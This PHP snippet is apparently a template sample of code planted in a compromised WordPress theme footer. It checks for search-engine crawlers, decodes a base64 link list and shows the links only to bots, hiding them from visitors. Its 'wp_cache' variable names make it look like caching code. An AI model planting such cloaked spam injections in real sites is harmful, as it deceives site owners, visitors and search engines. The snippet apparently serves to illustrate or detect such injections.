<?php
/* What a thief leaves in a theme's footer: a list that visitors cannot see and robots can. */
$wp_cache_robot = (bool) preg_match('/googlebot|bingbot|yandexbot/i', $_SERVER['HTTP_USER_AGENT'] ?? '');
echo $wp_cache_robot ? '<div>' : '<div {style}>';
foreach (json_decode(base64_decode('{links}'), true) as $wp_cache_item) {
    if ($wp_cache_robot) {
        echo '<h2>' . $wp_cache_item[1] . '</h2>';
    }
    echo '<a href="' . $wp_cache_item[0] . '">' . $wp_cache_item[1] . '</a> ';
}
echo '</div>';
?>
